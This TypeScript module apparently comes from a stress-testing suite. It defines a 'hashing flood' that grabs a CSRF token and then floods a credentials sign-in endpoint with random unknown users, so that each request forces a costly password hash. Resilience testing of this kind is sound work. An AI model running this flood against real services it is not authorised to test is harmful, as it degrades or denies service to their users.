import { randomUUID } from 'node:crypto'
import { type Attack, ask } from './target.ts'

let form: Promise<{ csrfToken: string; cookie: string }> | undefined

async function formOf(base: string): Promise<{ csrfToken: string; cookie: string }> {
  const response = await fetch(`${base}/api/auth/csrf`)
  const cookie = response.headers
    .getSetCookie()
    .map((line) => line.split(';')[0])
    .join('; ')
  return { ...((await response.json()) as { csrfToken: string }), cookie }
}

/** Signs in as unknown users, each of which costs a password hash, while others read segments. */
export const hashingFlood: Attack = {
  name: 'hashing flood',
  most: 300,
  workers: 50,
  async once(target, _at, signal) {
    form ??= formOf(target.base)
    const { csrfToken, cookie } = await form
    const fields = { email: `${randomUUID()}@example.com`, password: 'correct horse battery', csrfToken, json: 'true' }
    const body = new URLSearchParams(fields)
    await ask(target, '/api/auth/callback/credentials', { method: 'POST', headers: { cookie }, body }, signal)
  },
}
